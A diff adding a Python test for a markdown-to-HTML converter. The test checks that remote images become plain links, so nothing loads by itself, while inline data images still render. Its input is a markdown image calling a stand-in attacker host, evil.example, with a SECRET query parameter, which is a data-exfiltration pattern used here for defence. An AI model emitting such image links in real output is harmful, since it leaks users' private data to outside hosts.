@@ -319,3 +319,11 @@ def test_importing_stays_cheap() -> None:
     )
     done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
     assert done.stdout.split() == ["False", "False", "False"]
+
+
+def test_remote_images_become_links_so_nothing_loads_by_itself() -> None:
+    html = markdown_to_html("![chart](https://evil.example/x?d=SECRET)")
+    assert "<img" not in html
+    assert 'href="https://evil.example/x?d=SECRET"' in html and "chart" in html
+    inline = markdown_to_html("![dot](data:image/png;base64,iVBORw0KGgo=)")
+    assert '<img src="data:image/png;base64,iVBORw0KGgo="' in inline
